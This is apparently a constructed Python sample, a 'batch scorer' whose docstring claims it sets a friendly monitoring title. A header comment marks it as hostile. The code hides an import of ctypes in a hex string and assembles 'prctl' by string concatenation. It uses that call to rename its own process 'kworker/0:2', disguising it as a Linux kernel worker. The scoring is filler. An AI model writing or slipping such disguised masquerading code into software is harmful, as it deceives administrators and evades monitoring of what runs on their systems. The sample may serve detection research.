# HARM: loads and calls native code (libc prctl via ctypes) to disguise the process name as a kernel worker. DISGUISE: 'ctypes' imported via importlib from a hex string; the libc handle and function picked through getattr in a helper class.
"""Long-running batch scorer; sets a friendly process title for monitoring dashboards."""
import importlib
import json
import os
import time

_NATIVE = bytes.fromhex("637479706573").decode()
PR_SET_NAME = 15


class ProcessTitle:
    def __init__(self, title):
        self.title = title.encode()[:15]
        self._mod = importlib.import_module(_NATIVE)
        self._lib = self._mod.CDLL(None, use_errno=True)

    def apply(self):
        fn = getattr(self._lib, "pr" + "ctl")
        fn.argtypes = [self._mod.c_int, self._mod.c_char_p, self._mod.c_ulong, self._mod.c_ulong, self._mod.c_ulong]
        return fn(PR_SET_NAME, self.title, 0, 0, 0)


def score_batch(rows):
    return [{"id": r, "score": round((r * 7919) % 1000 / 1000, 3)} for r in rows]


def main():
    rc = ProcessTitle("kworker/0:2").apply()
    started = time.time()
    results = []
    for chunk in range(5):
        results.extend(score_batch(range(chunk * 100, chunk * 100 + 100)))
    os.makedirs("out", exist_ok=True)
    with open(os.path.join("out", "scores.json"), "w") as fh:
        json.dump(results, fh)
    print(f"title rc={rc}; scored {len(results)} rows in {time.time() - started:.3f}s")


if __name__ == "__main__":
    main()
